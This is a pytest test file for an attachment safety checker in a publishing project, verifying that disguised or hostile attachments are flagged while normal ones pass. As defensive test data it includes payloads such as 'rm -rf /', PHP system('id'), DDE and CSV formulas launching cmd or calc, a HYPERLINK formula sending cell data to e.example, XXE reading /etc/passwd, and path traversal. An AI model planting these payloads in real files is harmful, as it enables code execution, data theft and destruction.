"""Attachments: judged by what is in them, found on the line that names them; innocent ones pass."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest

from gongkai.safety.attachments import Examined, examine_all, folder
from gongkai.safety.attachments.judging import JUDGES, examine
from gongkai.safety.limits import JUDGED, Limits
from tests.made_files import (
    MACRO_WORD,
    bomb,
    docx,
    jpg,
    ofd,
    ole,
    outward,
    paragraph,
    pdf,
    pdf_of,
    pdf_with_action,
    relations,
    saved,
    svg,
    word_part,
    workbook,
    xlsx,
    zipped,
)
from tests.made_up import card, mobile, resident_id
from tests.memos import memo_in
from tests.safety.test_safety import BODY_LINE, GUIDE, HEAD, section
from tests.sections import Found, places
from tests.whole_section import small_image

M, ID, CARD = mobile(), resident_id(), card()
FIELD = 7
NAMED = HEAD.replace("---\n", "", 1).replace("---\n", "")
PNG = small_image()
EXE = b"MZ\x90\x00" + b"\0" * 60 + b"This program cannot be run in DOS mode."


def naming(file: str) -> str:
    """A page that names this attachment, in its last field."""
    return f"---\n{NAMED}  - file: {file}\n    title: 附件\n---\n\n正文。\n"


FIELD = naming("x").split("\n").index("  - file: x") + 1


def found(root: Path, file: str, data: bytes, **settings: Any) -> list[Found]:
    files = {f"files/{file}": data}
    return places(section(root, naming(f"../files/{file}"), files=files, **settings).check().findings)


def pdf_with(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    made = pdf_of()
    change(made)
    return saved(made, **options)


def attach(made: pikepdf.Pdf) -> None:
    made.attachments["a.exe"] = EXE


def annotate(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    made.pages[0].obj.Annots = pikepdf.Array([note])


def form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=pikepdf.String("x"))


JS = {"/S": pikepdf.Name.JavaScript, "/JS": "app.alert(1)"}
LOCKED = pikepdf.Encryption(owner="o", user="u", R=6)
VBA = {"VBA": {"dir": b"x" * 64, "Module1": b"x" * 64}}
BOUNDSHEET = b"\0\0\0\0\0\1\5\0Macro"
MEDIA = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'

UNSAFE = {
    "a program": ("a.exe", EXE),
    "a web page": ("a.html", b"<html></html>"),
    "an archive": ("a.zip", zipped({"a.txt": "x"})),
    "a file without ending": ("readme", b"text"),
    "a Word document with macros": ("a.docm", docx(main=MACRO_WORD)),
    "an ending behind the ending": ("a.pdf.exe", EXE),
    "an ending in capitals that is not allowed": ("A.EXE", EXE),
    "a program named pdf": ("a.pdf", EXE),
    "a program named docx": ("a.docx", EXE),
    "a program named txt": ("a.txt", EXE),
    "a program named png": ("b.png", EXE),
    "a Linux program named csv": ("a.csv", b"\x7fELF\x02\x01\x01" + b"\0" * 9),
    "a shell script named txt": ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
    "a batch file named txt": ("a.txt", b"@echo off\r\ndel *.*\r\n"),
    "a Visual Basic script named txt": ("a.txt", b'Set s = CreateObject("WScript.Shell")\r\n'),
    "a web page named txt": ("a.txt", "<!DOCTYPE html><p>正文</p>".encode()),
    "a web page named csv": ("a.csv", b"\xef\xbb\xbf <script>alert(1)</script>"),
    "a web page named pdf": ("a.pdf", b"<html></html>"),
    "a PHP page named csv": ("a.csv", b"<?php system('id');"),
    "binary rubbish named txt": ("a.txt", bytes(range(256)) * 4),
    "a truncated text": ("a.txt", "正文".encode()[:-1]),
    "an archive named docx": ("a.docx", zipped({"a.txt": "x"})),
    "an archive named xlsx": ("a.xlsx", zipped({"xl/workbook.xml": "<a/>"})),
    "a RAR archive named pdf": ("a.pdf", b"Rar!\x1a\x07\x00"),
    "a workbook named docx": ("a.docx", xlsx()),
    "a document named xlsx": ("a.xlsx", docx()),
    "an OFD named docx": ("a.docx", ofd()),
    "a document named ofd": ("a.ofd", docx()),
    "an old document named docx": ("a.docx", ole({"WordDocument": b"x" * 64})),
    "an encrypted document": ("a.docx", ole({"EncryptedPackage": b"x" * 64, "EncryptionInfo": b"x" * 64})),
    "a document without its body": ("a.docx", zipped({"[Content_Types].xml": "<Types/>"})),
    "a broken package": ("a.docx", docx()[:-40]),
    "broken XML": ("a.docx", docx("<w:p>")),
    "a document with macros named docx": ("a.docx", docx(main=MACRO_WORD)),
    "a document with a macro part": ("a.docx", docx(word__vbaProject_dot_bin=b"x")),
    "a workbook with a macro sheet": ("a.xlsx", xlsx(xl__macrosheets__sheet1_dot_xml="<a/>")),
    "a document with an object": ("a.docx", docx(declared=MEDIA, word__embeddings__oleObject1_dot_bin=EXE)),
    "a document with a document with macros": (
        "a.docx",
        docx(
            declared='<Default Extension="docx" ContentType="application/x"/>',
            word__embeddings__a_dot_docx=docx(main=MACRO_WORD),
        ),
    ),
    "a document with a program": ("a.docx", docx(word__a_dot_exe=EXE)),
    "a document with a template from elsewhere": (
        "a.docx",
        docx(word___rels__settings_dot_xml_dot_rels=relations(outward("attachedTemplate", "https://e.example/a.dotm"))),
    ),
    "a document with a template on another computer": (
        "a.docx",
        docx(word___rels__settings_dot_xml_dot_rels=relations(outward("attachedTemplate", r"\\10.0.0.1\a.dotm"))),
    ),
    "a document with a picture from elsewhere": (
        "a.docx",
        docx(word___rels__document_dot_xml_dot_rels=relations(outward("image", "https://e.example/a.png"))),
    ),
    "a document with DDE": ("a.docx", docx('<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>')),
    "a document with entities": ("a.docx", docx(word__a_dot_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
    "a zip bomb": ("a.docx", bomb()),
    "a package that leads out": ("a.docx", docx(**{"..__..__evil_dot_xml": "<a/>"})),
    "a program before a document": ("a.docx", EXE + docx()),
    "a program behind a document": ("a.docx", docx() + EXE),
    "a document behind a picture": ("b.png", PNG + docx()),
    "a truncated picture": ("b.png", PNG[:-8]),
    "a web page named jpg": ("a.jpg", b"<html>"),
    "a GIF named jpg": ("a.jpg", b"GIF89a" + b"\0" * 20),
    "an archive behind a photo": ("a.jpg", jpg() + zipped({"a.txt": "x"})),
    "a PDF with a script": ("a.pdf", pdf_with_action(**JS)),
    "a PDF that starts a program": ("a.pdf", pdf_with_action(**{"/S": pikepdf.Name.Launch, "/F": "cmd.exe"})),
    "a PDF with a link that starts a program": ("a.pdf", pdf_with(annotate)),
    "a PDF with a file in it": ("a.pdf", pdf_with(attach)),
    "a PDF that is a dynamic form": ("a.pdf", pdf_with(form)),
    "an encrypted PDF": ("a.pdf", saved(pdf_of(), encryption=LOCKED)),
    "a truncated PDF": ("a.pdf", pdf()[:200]),
    "a PDF with an archive behind it": ("a.pdf", pdf() + zipped({"a.txt": "x"})),
    "a PDF with something before it": ("a.pdf", EXE + pdf()),
    "an OFD with a program": ("a.ofd", ofd(Doc_0__a_dot_exe=EXE)),
    "an archive named ofd": ("a.ofd", zipped({"OFD.xml": "<a/>"})),
    "an old document with macros": ("a.wps", ole({"WordDocument": b"x" * 64}, VBA)),
    "an encrypted old document": ("a.wps", ole({"WordDocument": b"\xec\xa5" + b"\0" * 8 + b"\0\x01" + b"\0" * 52})),
    "an old document with objects": ("a.wps", ole({"WordDocument": b"x" * 64}, {"ObjectPool": {"a": b"x" * 64}})),
    "an old workbook with a macro sheet": ("a.et", ole({"Workbook": workbook((0x809, b"\0" * 16), (0x85, BOUNDSHEET), (10, b""))})),
    "an encrypted old workbook": ("a.et", ole({"Workbook": workbook((0x809, b"\0" * 16), (0x2F, b"\0" * 6))})),
    "an old workbook named wps": ("a.wps", ole({"Workbook": b"x" * 64})),
    "a PDF named et": ("a.et", pdf()),
    "an SVG with a script": ("a.svg", svg("<script>alert(1)</script>")),
    "an SVG with an event": ("a.svg", svg(attributes='onload="alert(1)"')),
    "an SVG with a web page": ("a.svg", svg("<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>")),
    "an SVG with a link": ("a.svg", svg("<a xlink:href='javascript:alert(1)'><rect/></a>")),
    "an SVG that loads": ("a.svg", svg("<image href='https://e.example/a.png'/>")),
    "an SVG with a style that loads": ("a.svg", svg("<style>@import url(https://e.example/a.css);</style>")),
    "an SVG that changes an address": ("a.svg", svg("<set attributeName='href' to='javascript:alert(1)'/>")),
    "an SVG with a style sheet": ("a.svg", b"<?xml-stylesheet href='a.css'?>" + svg()),
    "an SVG with entities": ("a.svg", b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text>&x;</text>")),
    "a web page named svg": ("a.svg", b"<html><svg></svg></html>"),
    "a CSV that starts a program": ("a.csv", "姓名\n=cmd|' /C calc'!A0\n".encode()),
    "a CSV that calls a server": ("a.csv", '姓名\n"=HYPERLINK(""https://e.example/""&A1)"\n'.encode()),
    "a program's ending within": ("a.exe.txt", "正文".encode()),
}  # fmt: skip


@pytest.mark.parametrize(("file", "data"), UNSAFE.values(), ids=UNSAFE.keys())
def test_an_unsafe_attachment_is_found_where_it_is_named(file: str, data: bytes, tmp_path: Path) -> None:
    assert found(tmp_path, file, data) == [(GUIDE, FIELD, "GK505")]


def test_a_name_that_reads_backwards_is_found_where_it_is_written(tmp_path: Path) -> None:
    there = found(tmp_path, "a\u202efdp.txt", "正文".encode())
    assert there == [(GUIDE, FIELD, "GK001"), (GUIDE, FIELD, "GK505")]


FINE = {
    "a PDF": ("a.pdf", pdf()),
    "a PDF in capitals": ("A.PDF", pdf()),
    "a PDF that opens at a page": ("a.pdf", pdf_with_action(**{"/S": pikepdf.Name.GoTo, "/D": "x"})),
    "a PDF with a link": ("a.pdf", pdf_with_action(**{"/S": pikepdf.Name.URI, "/URI": "https://www.example.com/"})),
    "a PDF locked against changes": ("a.pdf", saved(pdf_of(), encryption=pikepdf.Encryption(owner="o", user="", R=6))),
    "a document": ("a.docx", docx()),
    "a document with a link": (
        "a.docx",
        docx(word___rels__document_dot_xml_dot_rels=relations(outward("hyperlink", "https://www.example.com/"))),
    ),
    "a document with its author's template": (
        "a.docx",
        docx(word___rels__settings_dot_xml_dot_rels=relations(outward("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"))),
    ),
    "a document with a workbook for its chart": (
        "a.docx",
        docx(
            declared='<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
            word__embeddings__a_dot_xlsx=xlsx(),
        ),
    ),
    "a workbook": ("a.xlsx", xlsx("<c><v>13.5</v></c>")),
    "an OFD": ("a.ofd", ofd()),
    "an old document": ("a.wps", ole({"WordDocument": b"x" * 64})),
    "an old workbook": ("a.et", ole({"Workbook": workbook((0x809, b"\0" * 16), (0x85, b"\0\0\0\0\0\0\1\0A"), (10, b""))})),
    "a picture": ("b.PNG", PNG),
    "a photo": ("a.jpg", jpg()),
    "a photo with a second one behind": ("a.jpg", jpg() + jpg()),
    "a drawing": ("a.svg", svg("<style>.a{fill:url(#b)}</style><use href='#a'/><text>甲</text>")),
    "a drawing with a doctype": ("a.svg", b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">' + svg()),
    "a drawing with a photo in it": ("a.svg", svg("<image href='data:image/png;base64,AAAA'/>")),
    "a text": ("a.txt", "正文\n".encode()),
    "a text with mark": ("a.txt", "正文\n".encode("utf-8-sig")),
    "a text in GBK": ("a.txt", "正文，咨询电话021-55550111。\r\n".encode("gb18030")),
    "a text in UTF-16": ("a.txt", "正文\n".encode("utf-16")),
    "a text in UTF-16 without mark": ("a.txt", "text\n".encode("utf-16-le")),
    "an empty text": ("a.txt", b""),
    "a table": ("a.csv", "姓名,金额,增减\n张某,13800.5,-3\n李某,+5,=B1+B2\n".encode()),
    "a name with two dots": ("关于补贴的通知.docx.pdf", pdf()),
    "a name with blanks": ("申请表 （2024）.pdf", pdf()),
}  # fmt: skip


@pytest.mark.parametrize(("file", "data"), FINE.values(), ids=FINE.keys())
def test_an_attachment_that_is_what_it_says_passes(file: str, data: bytes, tmp_path: Path) -> None:
    assert found(tmp_path, file, data) == []


PERSONAL = {
    "docx": ("a.docx", docx(paragraph(f"联系人{M}"))),
    "docx, in pieces": ("a.docx", docx(paragraph(M[:3], M[3:7], M[7:]))),
    "docx, in a cell": ("a.docx", docx(f"<w:tbl><w:tr><w:tc>{paragraph(ID)}</w:tc></w:tr></w:tbl>")),
    "docx, deleted": ("a.docx", docx(f"<w:p><w:del><w:r><w:delText>{M}</w:delText></w:r></w:del></w:p>")),
    "docx, in the header": ("a.docx", docx(word__header1_dot_xml=word_part(paragraph(M)))),
    "docx, in the footer": ("a.docx", docx(word__footer1_dot_xml=word_part(paragraph(M), "ftr"))),
    "docx, in a comment": ("a.docx", docx(word__comments_dot_xml=word_part(paragraph(M), "comments"))),
    "docx, in a footnote": ("a.docx", docx(word__footnotes_dot_xml=word_part(paragraph(M), "footnotes"))),
    "docx, in its properties": ("a.docx", docx(docProps__core_dot_xml=f"<a><creator>张某{M}</creator></a>")),
    "docx, in a link": (
        "a.docx",
        docx(word___rels__document_dot_xml_dot_rels=relations(outward("hyperlink", f"tel:{M}"))),
    ),
    "docx, under a picture": (
        "a.docx",
        docx(f'<w:p><w:r><w:drawing><docPr descr="{M}"/></w:drawing></w:r></w:p>'),
    ),
    "docx, with tabs": (
        "a.docx",
        docx(
            f"<w:p><w:r><w:t>{M[:3]}</w:t><w:tab/><w:t>{M[3:7]}</w:t><w:tab/><w:t>{M[7:]}</w:t></w:r></w:p>"
        ),
    ),
    "xlsx, text": ("a.xlsx", xlsx('<c t="s"><v>0</v></c>', f"<si><t>{M}</t></si>")),
    "xlsx, rich text": ("a.xlsx", xlsx("", f"<si><r><t>{M[:5]}</t></r><r><t>{M[5:]}</t></r></si>")),
    "xlsx, in the cell": ("a.xlsx", xlsx(f'<c t="inlineStr"><is><t>{ID}</t></is></c>')),
    "xlsx, a number": ("a.xlsx", xlsx(f"<c><v>{M}</v></c>")),
    "xlsx, a number with exponent": ("a.xlsx", xlsx(f"<c><v>{M[0]}.{M[1:]}E10</v></c>")),
    "xlsx, a formula": ("a.xlsx", xlsx(f'<c><f>"{M}"</f><v>0</v></c>')),
    "xlsx, a comment": (
        "a.xlsx",
        xlsx(xl__comments1_dot_xml=f"<comments><comment><text><t>{M}</t></text></comment></comments>"),
    ),
    "pdf": ("a.pdf", pdf(f"Tel {M}")),
    "pdf, apart": ("a.pdf", pdf(f"{M[:3]} {M[3:7]} {M[7:]}")),
    "pdf, in its properties": ("a.pdf", pdf_with(lambda p: p.docinfo.__setitem__("/Author", f"张某{M}"))),
    "pdf, in a note": (
        "a.pdf",
        pdf_with(
            lambda p: p.pages[0].obj.__setitem__(
                "/Annots", pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Text, Contents=f"联系{M}")])
            )
        ),
    ),
    "ofd": ("a.ofd", ofd(f"联系{M}")),
    "wps, wide": ("a.wps", ole({"WordDocument": f"联系{M}。".encode("utf-16-le")})),
    "et, narrow": ("a.et", ole({"Workbook": workbook((0x809, b"\0" * 16), (10, b""), (0xFC, ID.encode()))})),
    "svg": ("a.svg", svg(f"<text>{M[:3]}<tspan>{M[3:]}</tspan></text>")),
    "txt": ("a.txt", f"联系{M}\n".encode()),
    "txt in GBK": ("a.txt", f"联系{M}\n".encode("gb18030")),
    "txt in UTF-16": ("a.txt", f"联系{M}\n".encode("utf-16")),
    "csv": ("a.csv", f"姓名,证件\n张某,{ID}\n".encode()),
    "csv, kept as text": ("a.csv", f"姓名,卡号\n张某,'{CARD}\n".encode("gb18030")),
    "file name": (f"张某{M}.txt", "正文".encode()),
    "file name, in pieces": (f"{M[:3]}-{M[3:7]}-{M[7:]}.txt", "正文".encode()),
}


@pytest.mark.parametrize(("file", "data"), PERSONAL.values(), ids=PERSONAL.keys())
def test_personal_information_in_an_attachment_is_found(file: str, data: bytes, tmp_path: Path) -> None:
    assert set(found(tmp_path, file, data)) == {(GUIDE, FIELD, "GK501")}


@pytest.mark.parametrize(
    ("file", "data"),
    [
        ("a.docx", docx(paragraph("秘密★1年") + paragraph("正文"))),
        ("a.docx", docx(word__header1_dot_xml=word_part(paragraph("内部资料 注意保存")))),
        ("a.xlsx", xlsx("", "<si><t>机密</t></si>")),
        ("a.txt", "内部文件，请勿外传\n\n正文".encode()),
        ("a.ofd", ofd("绝密")),
        ("a.docx", docx(word__footer1_dot_xml=word_part(paragraph("公开属性：") + paragraph("依申请公开")))),
        ("a.csv", "文件,公开属性\n方案,不予公开\n".encode()),
        ("a.txt", "示例局\n2026年6月1日\n（此件不公开）".encode()),
    ],
)
def test_markings_in_attachments_are_found(file: str, data: bytes, tmp_path: Path) -> None:
    assert found(tmp_path, file, data) == [(GUIDE, FIELD, "GK502")]


def test_a_sentence_broken_over_lines_is_no_marking(tmp_path: Path) -> None:
    text = "任何单位和个人不得泄露在工作中知悉的国家\n秘密。\n\n工作中形成的文件按照保密规定分别标明\n机密\n"
    assert found(tmp_path, "a.txt", text.encode()) == []


def test_an_attached_text_that_tells_of_applications_is_marked_all_the_same(tmp_path: Path) -> None:
    assert found(tmp_path, "a.txt", "不予公开\n\n请各科室按规定办理申请。\n".encode()) == [
        (GUIDE, FIELD, "GK502")
    ]


def test_outcomes_in_an_attached_table_are_no_markings(tmp_path: Path) -> None:
    assert found(tmp_path, "a.csv", "答复类型,件数\n予以公开,3\n不予公开,1\n".encode()) == []


# --- places, names, limits --------------------------------------------------------------------------

OUTSIDE = [
    "../../mkdocs.yml",
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\mkdocs.yml",
    "C:\\a.pdf",
    "../files/../../a.pdf",
]


@pytest.mark.parametrize("path", [*OUTSIDE, "../files/.hidden.pdf", "../.git/config"])
def test_a_path_that_leaves_the_folder_is_unsafe_and_not_only_broken(path: str, tmp_path: Path) -> None:
    assert places(section(tmp_path, naming(f"'{path}'")).check().findings) == [(GUIDE, FIELD, "GK505")]


def test_links_are_unsafe_wherever_they_lead(tmp_path: Path) -> None:
    made = section(tmp_path, naming("../files/link.txt"), files={"files/true.txt": b"text"})
    made.write()
    (made.content / "files" / "link.txt").symlink_to(made.content / "files" / "true.txt")
    assert (GUIDE, FIELD, "GK505") in places(made.check().findings)


def test_a_link_that_leads_nowhere_is_unsafe(tmp_path: Path) -> None:
    made = section(tmp_path, naming("../files/link.txt"))
    made.write()
    (made.content / "files" / "link.txt").symlink_to("/nowhere")
    assert places(made.check().findings) == [(GUIDE, FIELD, "GK505")]


def test_a_file_behind_a_link_to_a_folder_is_unsafe(tmp_path: Path) -> None:
    made = section(tmp_path, naming("../shared/a.txt"))
    made.write()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "a.txt").write_text("text")
    (made.content / "shared").symlink_to(outside)
    assert places(made.check().findings) == [(GUIDE, FIELD, "GK505"), ("shared", 1, "GK001")]


def test_a_file_over_the_limit_is_unsafe(tmp_path: Path) -> None:
    limits = {"attachments": {"megabytes": 1}}
    assert found(tmp_path / "over", "a.txt", b"x" * (1024 * 1024 + 1), **limits) == [(GUIDE, FIELD, "GK505")]
    assert found(tmp_path / "at", "a.txt", b"x" * (1024 * 1024), **limits) == []


def test_only_types_in_the_settings_are_allowed(tmp_path: Path) -> None:
    types = {"attachments": {"types": ["txt", "png"]}}
    assert found(tmp_path / "a", "a.pdf", pdf(), **types) == [(GUIDE, FIELD, "GK505")]
    assert found(tmp_path / "b", "a.txt", b"text", **types) == []


def test_links_and_images_of_bodies_are_attachments_too(tmp_path: Path) -> None:
    body = "\n[表](../files/a.docx)\n\n甲\n![图](../files/b.png)\n"
    files = {"files/a.docx": EXE, "files/b.png": PNG + EXE}
    found = places(section(tmp_path, HEAD + body, files=files).check().findings)
    assert found == [(GUIDE, BODY_LINE + 2, "GK505"), (GUIDE, BODY_LINE + 5, "GK505")]


def test_each_place_that_names_a_file_is_told(tmp_path: Path) -> None:
    files = {
        "files/a.txt": f"{M}".encode(),
        "about/other.md": naming("../files/a.txt").replace("指南", "其他"),
    }
    found = places(section(tmp_path, naming("../files/a.txt"), files=files).check().findings)
    assert found == [(GUIDE, FIELD, "GK501"), ("about/other.md", FIELD, "GK501")]


def test_what_nobody_names_is_told_at_itself(tmp_path: Path) -> None:
    files = {"files/list.csv": f"{M}\n".encode(), f"files/{ID}.txt": b"text", "files/a.exe": EXE}
    found = places(section(tmp_path, HEAD, files=files).check().findings)
    assert found == [
        (f"files/{ID}.txt", 1, "GK501"),
        (f"files/{ID}.txt", 1, "GK604"),
        ("files/a.exe", 1, "GK604"),
        ("files/list.csv", 1, "GK501"),
        ("files/list.csv", 1, "GK604"),
    ]


# --- the cache --------------------------------------------------------------------------------------


def test_every_type_that_can_be_allowed_can_be_judged() -> None:
    assert set(JUDGES) == JUDGED


def test_a_file_that_was_examined_is_not_read_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "a.txt").write_text(M)
    first = examine_all(tmp_path, ["a.txt"], Limits(), memo_in(tmp_path / "cache"))
    monkeypatch.setattr(folder, "_read", lambda _file: pytest.fail("read again"))
    assert examine_all(tmp_path, ["a.txt"], Limits(), memo_in(tmp_path / "cache")) == first
    assert first["a.txt"].numbers


def test_another_content_or_ending_is_examined_anew(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(M)
    examine_all(tmp_path, ["a.txt"], Limits(), memo_in(tmp_path / "cache"))
    (tmp_path / "a.txt").write_text("x" * len(M))
    (tmp_path / "b.pdf").write_text(M)
    found = examine_all(tmp_path, ["a.txt", "b.pdf"], Limits(), memo_in(tmp_path / "cache"))
    assert found["a.txt"] == Examined(has_text=True)
    assert found["b.pdf"].problems


def test_the_cache_holds_no_number(tmp_path: Path) -> None:
    (tmp_path / "a.docx").write_bytes(docx(paragraph(M, ID)))
    examine_all(tmp_path, ["a.docx"], Limits(), memo_in(tmp_path / "cache"))
    kept = b"".join(file.read_bytes() for file in (tmp_path / "cache").iterdir())
    assert kept
    assert M.encode() not in kept
    assert ID.encode() not in kept


@pytest.mark.parametrize("ending", sorted(JUDGED))
def test_rubbish_and_cut_off_files_never_crash(ending: str) -> None:
    whole = {file.rsplit(".", 1)[-1].lower(): data for file, data in FINE.values()}
    data = whole.get(ending, docx())
    for cut in range(0, len(data), max(len(data) // 40, 1)):
        examine(ending, data[:cut])
        examine(ending, data[:cut] + b"\xff\x00\x01" + data[cut + 3 :])
    for rubbish in (
        b"",
        b"\0",
        b"PK\x03\x04",
        b"%PDF-1.7\n%%EOF",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2048,
        b"<svg",
    ):
        examine(ending, rubbish)


def test_amounts_that_a_file_states_are_known_and_its_words_are_not(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text("档次,标准（元）\n一档,1200\n说明,每人每月补贴八百元，三年内\n")
    (found,) = examine_all(tmp_path, ["a.csv"], Limits()).values()
    assert {"1200", "八百元", "三年"} <= set(found.amounts)
    assert not any("补贴" in word or "档" in word for word in found.amounts)
